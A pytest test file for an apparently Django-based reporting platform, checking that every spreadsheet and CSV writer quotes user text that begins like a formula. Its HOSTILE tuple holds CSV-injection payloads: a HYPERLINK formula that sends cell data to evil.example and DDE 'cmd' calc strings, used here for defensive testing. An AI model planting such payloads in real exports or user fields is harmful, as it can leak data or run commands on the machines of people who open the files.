"""No text a user typed becomes a formula in any workbook the platform produces (issue 18,
item 6; OWASP "CSV injection"): every writer goes through core.spreadsheets, which makes
text that starts like a formula a string cell behind a single quote, and numbers stay
numbers. WRITERS lists every module that makes a workbook or CSV file: a new one fails
test_every_workbook_writer_is_fed_hostile_text until it is added here and its output
checked."""

import io
import re
import tempfile
import zipfile
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import reverse
from openpyxl import load_workbook

from core.masking import mask_phone
from core.roles import Role
from core.spreadsheets import FORMULA_START, csv_row, safe_text
from core.workbook import NUMBER, PHONE, Column, Sheet, write_workbook
from dashboard.exports import table_workbook
from dashboard.selectors import Table
from imports import workbook as import_workbooks
from imports.layouts import LAYOUTS
from inspections import documents as inspection_documents
from inspections import pool_io
from inspections.models import Conflict, Inspector
from organisations.models import Organisation
from reports import documents as report_documents
from tests.inspections.test_report_documents import FORMULA as SCORE_COMMENT
from tests.inspections.test_report_documents import _finalise
from tests.reports.factories import current_period, make_report
from workdays import spreadsheets as workday_spreadsheets

HOSTILE = (
    '=HYPERLINK("http://evil.example/?d="&A2,"点击查看")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
NAME = HOSTILE[0]
PHONE_NUMBER = "13812345678"
# Modules that only make input for the benchmarks, never a file the platform hands out.
NOT_PLATFORM_OUTPUT = {"bench/imports.py"}
WRITING = re.compile(
    r"xlsxwriter\.Workbook\(|from openpyxl import[^\n]*\bWorkbook\b|openpyxl\.Workbook\(|csv\.(?:writer|DictWriter)\("
)
# Writing a cell without core.spreadsheets: XlsxWriter's write methods, openpyxl's
# cell(value=), .value = and a worksheet's append().
DIRECT_CELL_WRITE = re.compile(
    r"\.write(?:_string|_row|_column|_number|_formula|_array_formula|_rich_string|_url|_datetime|_boolean)?\("
    r"|\.cell\([^)]*value="
    r"|\.value\s*=[^=]"
    r"|\b(?:sheet|ws|notes|about|lists|summary|worksheet)\.append\("
)


def _cells(content: bytes):
    """Every non-empty cell of every sheet, read as written (formulas not evaluated)."""
    workbook = load_workbook(io.BytesIO(content))
    return [
        cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None
    ]


def assert_no_formula(content: bytes, *, expected=()) -> list:
    """No cell of the workbook is a formula, no text cell starts like one, and each of
    `expected` (hostile text fed in) is there, neutralised. Returns the cell values."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name)
                assert (b"<f>" in xml, b"<f " in xml) == (False, False), name
    cells = _cells(content)
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    values = [cell.value for cell in cells]
    assert [value for value in values if isinstance(value, str) and value.startswith(FORMULA_START)] == []
    # XML reads a carriage return back as a line feed; XlsxWriter escapes it as _x000D_,
    # which Excel reads back as a carriage return and openpyxl leaves as it is.
    texts = {value.replace("_x000D_", "\n").replace("\r", "\n") for value in values if isinstance(value, str)}
    for text in expected:
        assert safe_text(text).replace("\r", "\n") in texts, text
    return values


# --- The helper ----------------------------------------------------------------------------


def test_safe_text_quotes_text_that_starts_like_a_formula():
    assert [safe_text(text) for text in HOSTILE] == [
        '\'=HYPERLINK("http://evil.example/?d="&A2,"点击查看")',
        "'+cmd|' /C calc'!A0",
        "'-2+3+cmd|' /C calc'!A0",
        "'@SUM(1+9)*cmd|' /C calc'!A0",
        "'\t=1+1",
        "'\r=1+1",
    ]


def test_safe_text_leaves_ordinary_text_and_signed_numbers_alone():
    texts = ["石家庄市心理驿站", "a=b", " =1", "-0.12", "+8613812345678", "—", "", "'=x"]
    assert [safe_text(text) for text in texts] == texts


def test_safe_text_removes_characters_a_workbook_cannot_hold():
    assert safe_text("唐山\x00市\x1b") == "唐山市"


# --- Every writer --------------------------------------------------------------------------


def _exports_workbook(world):
    columns = [Column("名称"), Column("电话", kind=PHONE), Column("数量", kind=NUMBER)]
    rows = iter([(text, "=13812345678", 3) for text in HOSTILE] + [("唐山市", PHONE_NUMBER, 4)])
    with tempfile.NamedTemporaryFile(suffix=".xlsx") as file:
        write_workbook(file.name, [Sheet(title=NAME, columns=columns, count=7, rows=rows)], unmasked=True)
        content = Path(file.name).read_bytes()
    values = assert_no_formula(content, expected=HOSTILE)
    # Numbers stay numbers.
    assert [value for value in values if isinstance(value, int)] == [3, 3, 3, 3, 3, 3, 4]
    assert PHONE_NUMBER in values
    return [content]


def _import_workbooks(world):
    report = import_workbooks.error_report(
        bad_rows=[
            {"row": 2 + index, "label": text, "problems": [text, "缺少名称"]} for index, text in enumerate(HOSTILE)
        ]
    )
    values = assert_no_formula(report, expected=HOSTILE)
    assert [value for value in values if isinstance(value, int)] == [2, 3, 4, 5, 6, 7]
    passwords = import_workbooks.passwords_workbook([(text, text, text, "Ab3dEf6hJk9m") for text in HOSTILE])
    assert_no_formula(passwords, expected=HOSTILE)
    templates = [import_workbooks.template_workbook(layout) for layout in LAYOUTS.values()]
    for template in templates:
        assert_no_formula(template)
    return [report, passwords, *templates]


def _expert_pool_workbooks(world):
    Organisation.objects.filter(pk=world.ts_unit.pk).update(name=HOSTILE[1])
    Organisation.objects.filter(pk=world.tangshan.pk).update(name=HOSTILE[3])
    inspector = Inspector.objects.create(
        name=NAME,
        employer=HOSTILE[2],
        title=HOSTILE[4],
        specialities=HOSTILE[5],
        notes=NAME,
        email="a@example.com",
        area=world.tangshan,
        phone=PHONE_NUMBER,
    )
    Conflict.objects.create(inspector=inspector, organisation=world.ts_unit)
    export = pool_io.export_workbook(actor=world.province_admin, inspectors=Inspector.objects.all())
    values = assert_no_formula(export, expected=HOSTILE)
    assert (PHONE_NUMBER in values, mask_phone(PHONE_NUMBER) in values) == (False, True)
    template = pool_io.template_workbook()
    assert_no_formula(template, expected=[HOSTILE[3]])
    return [export, template]


def _dashboard_workbook(world):
    table = Table(
        key="units",
        title=NAME,
        label_header="地区",
        columns=["单位数", HOSTILE[1]],
        rows=[(text, [index, 2.5]) for index, text in enumerate(HOSTILE)],
    )
    content = table_workbook(table, filters_text=HOSTILE[2])
    values = assert_no_formula(content, expected=HOSTILE)
    assert [value for value in values if isinstance(value, int | float)] == [
        0,
        2.5,
        1,
        2.5,
        2,
        2.5,
        3,
        2.5,
        4,
        2.5,
        5,
        2.5,
    ]
    return [content]


def _workday_template(world):
    content = workday_spreadsheets.template_workbook(2027)
    assert_no_formula(content)
    return [content]


def _inspection_report(world):
    content = inspection_documents.report_xlsx(_finalise(world))
    assert_no_formula(content, expected=[SCORE_COMMENT])
    return [content]


def _period_reports(world):
    campaign, period = current_period()
    Organisation.objects.filter(pk=world.sjz_association.organisation_id).update(name=NAME)
    report = make_report(world, submit=True, narrative=HOSTILE[1], practices=HOSTILE[2], problems=HOSTILE[3])
    content = report_documents.period_xlsx(campaign, period, [report])
    assert_no_formula(content, expected=HOSTILE[:4])
    return [content]


WRITERS = {
    "core/workbook.py": _exports_workbook,
    "imports/workbook.py": _import_workbooks,
    "inspections/pool_io/workbook.py": _expert_pool_workbooks,
    "dashboard/exports.py": _dashboard_workbook,
    "workdays/spreadsheets.py": _workday_template,
    "inspections/documents.py": _inspection_report,
    "reports/documents.py": _period_reports,
}


def _sources():
    root = Path(settings.BASE_DIR)
    for path in sorted(root.rglob("*.py")):
        relative = path.relative_to(root).as_posix()
        if relative.split("/")[0] in {".venv", "node_modules", "tests", "var", "static"}:
            continue
        yield relative, path.read_text(encoding="utf-8")


def test_every_workbook_writer_is_fed_hostile_text():
    writers = {name for name, text in _sources() if WRITING.search(text)} - NOT_PLATFORM_OUTPUT
    assert sorted(writers) == sorted(WRITERS)


def test_no_writer_writes_a_cell_but_through_the_helper():
    direct = {
        name: DIRECT_CELL_WRITE.findall(text)
        for name, text in _sources()
        if name in WRITERS and DIRECT_CELL_WRITE.search(text)
    }
    assert direct == {}


@pytest.mark.parametrize("module", sorted(WRITERS))
def test_writer_keeps_hostile_text_as_text(module, world):
    assert len(WRITERS[module](world)) >= 1


def test_expert_pool_export_masks_phones_even_for_the_provincial_administrator(world, client_for):
    Inspector.objects.create(name="赵强", phone=PHONE_NUMBER)
    assert world.province_admin.role == Role.PROVINCE_ADMIN
    response = client_for(world.province_admin).get(reverse("inspections:expert-export"))
    values = assert_no_formula(response.content)
    assert (PHONE_NUMBER in values, mask_phone(PHONE_NUMBER) in values) == (False, True)


def test_csv_row_quotes_text_and_keeps_numbers():
    assert csv_row([NAME, 3, 2.5, None, "唐山市"]) == ["'" + NAME, 3, 2.5, "", "唐山市"]
